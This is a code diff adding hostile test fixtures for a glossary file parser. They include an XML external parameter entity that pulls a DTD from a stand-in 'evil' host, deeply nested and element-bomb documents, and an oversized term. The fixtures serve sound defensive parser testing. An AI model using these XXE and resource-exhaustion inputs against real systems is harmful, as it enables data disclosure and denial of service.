@@ -151,6 +151,14 @@ HOSTILE = {
     "not-tbx.tbx": """<?xml version="1.0"?><tmx version="1.4"><body/></tmx>""",
     "empty.tbx": "",
     "unterminated-quote.csv": 'kerja sama,cooperation\n"rantai pasokan,supply chain\n',
+    "parameter-entity.tbx": """<?xml version="1.0"?>
+<!DOCTYPE martif [<!ENTITY % p SYSTEM "http://example.invalid/evil.dtd"> %p;]>
+<martif type="TBX"><text><body/></text></martif>""",
+    "deep-nesting.tbx": '<?xml version="1.0"?><martif><text><body><termEntry>' + "<note>" * 300
+    + "x" + "</note>" * 300 + "</termEntry></body></text></martif>",
+    "element-bomb.tbx": '<?xml version="1.0"?><martif><text><body><termEntry><langSet xml:lang="en">'
+    + "<tig><term>t</term></tig>" * 12_000 + "</langSet></termEntry></body></text></martif>",
+    "term-too-long.tsv": "kerja sama\t" + "c" * 20_000 + "\n",
 }
 
 
